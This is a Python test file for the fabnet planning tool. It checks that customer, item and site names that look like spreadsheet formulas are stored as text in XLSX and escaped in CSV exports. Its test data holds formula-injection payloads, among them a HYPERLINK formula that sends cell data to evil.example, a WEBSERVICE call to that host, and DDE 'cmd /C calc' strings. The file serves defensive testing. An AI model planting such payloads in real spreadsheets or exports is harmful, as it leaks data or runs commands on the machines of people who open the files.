"""Text that looks like a formula stays text: a customer named `=HYPERLINK(…)` is written
as a string cell into a workbook and with a `'` in front into CSV files, so a spreadsheet
shows it instead of running it, and fabnet reads it back exactly."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from fabnet.io import load_scenario, save_scenario
from fabnet.io.csv_format import FORMULA_STARTS, guard_text, unguard_text
from fabnet.io.plan_io import csv_text
from fabnet.model.errors import ScenarioError
from fabnet.model.scenario import Scenario

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A2,"Ministry")'
#: names a spreadsheet would run, or that look like the escape itself
HOSTILE = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rCarriage return",
    "'=already quoted",
    "''=quoted twice",
    "'plain quote",
    "''",
    "'",
    "Plain name",
    "",
    "\x07bell, a control character",
    "_x000D_ typed as text",
]


def _document() -> dict[str, Any]:
    """A small scenario whose names, location, title and some ids are hostile."""
    customers = [{"id": f"C{i}", "name": name, "country": "UA", "approved": True}
                 for i, name in enumerate(HOSTILE)]
    customers.append({"id": "@UA-MOD", "name": "Ministry", "country": "UA", "approved": True})
    return {
        "scenario": "=1+1 tiny",
        "horizon": {"start": "2027-01-04", "bucket": "week", "buckets": 8},
        "items": [{"id": "=RECON-Q", "name": "-quadcopter", "kind": "product"},
                  {"id": "FC-H7", "name": "@controller", "kind": "component",
                   "unit_cost": 60, "origin": "TW"}],
        "boms": {"=RECON-Q": [{"item": "FC-H7", "qty": 1}]},
        "routings": {"=RECON-Q": [{"work_center": "assembly", "hours": 2.5}]},
        "sites": [{"id": "FR-LYON", "name": "+Lyon", "country": "FR",
                   "location": "=WEBSERVICE(\"http://evil.example\")", "makes": ["=RECON-Q"],
                   "work_centers": [{"type": "assembly", "hours": 100}]}],
        "suppliers": [{"id": "SUP-TW", "name": "\tTaipei", "country": "TW",
                       "offers": [{"item": "FC-H7", "price": 58, "lead_time": 1,
                                   "capacity": 30}]}],
        "customers": customers,
        "lanes": [{"from": "SUP-TW", "to": "FR-LYON", "transit": 1, "cost": 0.8},
                  {"from": "FR-LYON", "to": "@UA-MOD", "transit": 1, "capacity": 5000}],
        "inventory": [{"site": "FR-LYON", "item": "FC-H7", "qty": 10}],
        "demand": [{"id": "D1", "customer": "@UA-MOD", "item": "=RECON-Q", "qty": 50,
                    "due": "2027-02-01", "priority": 1}],
    }


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    p = tmp_path / "hostile.yaml"
    p.write_text(yaml.safe_dump(_document(), sort_keys=False, allow_unicode=True),
                 encoding="utf-8")
    return p


def _names(sc: Scenario) -> list[str]:
    return [c.name for c in sc.customers]


def test_hostile_names_survive_yaml_to_xlsx_to_yaml_exactly(hostile: Path,
                                                             tmp_path: Path) -> None:
    sc = load_scenario(hostile)
    assert _names(sc)[:len(HOSTILE)] == HOSTILE
    save_scenario(sc, tmp_path / "x.xlsx")
    back = load_scenario(tmp_path / "x.xlsx")
    assert back == sc
    save_scenario(sc, tmp_path / "a.yaml")
    save_scenario(back, tmp_path / "b.yaml")
    assert (tmp_path / "a.yaml").read_text() == (tmp_path / "b.yaml").read_text()


def test_hostile_names_survive_yaml_to_csv_to_yaml_exactly(hostile: Path,
                                                            tmp_path: Path) -> None:
    sc = load_scenario(hostile)
    save_scenario(sc, tmp_path / "csv")
    back = load_scenario(tmp_path / "csv")
    assert back == sc
    assert _names(back)[:len(HOSTILE)] == HOSTILE
    save_scenario(back, tmp_path / "again.xlsx")
    assert load_scenario(tmp_path / "again.xlsx") == sc


def test_a_formula_like_name_is_a_string_cell_not_a_formula(hostile: Path,
                                                            tmp_path: Path) -> None:
    save_scenario(load_scenario(hostile), tmp_path / "x.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    texts = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    link = next(c for c in texts if c.value == HYPERLINK)
    assert link.data_type == "s" and link.quotePrefix
    assert all(c.data_type == "s" for c in texts)
    assert wb["items"]["A2"].value == "=RECON-Q" and wb["items"]["A2"].data_type == "s"
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_no_csv_cell_starts_with_a_formula_character(hostile: Path, tmp_path: Path) -> None:
    save_scenario(load_scenario(hostile), tmp_path / "csv")
    cells = [c for p in (tmp_path / "csv").glob("*.csv") for row in _cells(p) for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    names = [r[1] for r in _cells(tmp_path / "csv" / "customers.csv")[1:]]
    assert names[0] == "'" + HYPERLINK
    assert names[HOSTILE.index("'=already quoted")] == "''=already quoted"
    assert names[HOSTILE.index("'plain quote")] == "'plain quote"
    assert names[HOSTILE.index("Plain name")] == "Plain name"
    assert _cells(tmp_path / "csv" / "sites.csv")[1][3] == "'=RECON-Q"  # a list of ids
    assert _cells(tmp_path / "csv" / "lanes.csv")[1][2:4] == ["1", "0.8"]


def test_the_csv_escape_is_undone_exactly_and_only_where_it_was_made() -> None:
    for text in [*HOSTILE, "'''-x", "x=1", " =x", "'"]:
        assert unguard_text(guard_text(text)) == text
        assert not guard_text(text).startswith(FORMULA_STARTS)
    # cells fabnet never writes are read as they are, so a hand-typed -5 stays -5
    assert unguard_text("-5") == "-5" and unguard_text("'x") == "'x"


def test_a_negative_number_typed_into_a_csv_is_read_as_a_number(hostile: Path,
                                                               tmp_path: Path) -> None:
    save_scenario(load_scenario(hostile), tmp_path / "csv")
    lanes = tmp_path / "csv" / "lanes.csv"
    lanes.write_text(lanes.read_text().replace(",0.8,", ",-0.8,"), encoding="utf-8")
    with pytest.raises(ScenarioError) as e:  # a number below 0, not text that isn't one
        load_scenario(tmp_path / "csv")
    assert "lanes[row 2 SUP-TW>FR-LYON].cost: Input should be greater than or equal to 0" \
        in str(e.value)


def test_plan_csv_text_cells_are_guarded_and_numbers_kept() -> None:
    text = csv_text(["item", "qty", "reason"],
                    [("=RECON-Q", -5, "@risk"), ("FC-H7", -2.5, "-"), ("'=x", 0, "ok")])
    rows = list(csv.reader(text.splitlines()))
    assert rows[1] == ["'=RECON-Q", "-5", "'@risk"]
    assert rows[2] == ["FC-H7", "-2.5", "'-"]
    assert rows[3] == ["''=x", "0", "ok"]
    assert [unguard_text(c) for c in rows[1]] == ["=RECON-Q", "-5", "@risk"]
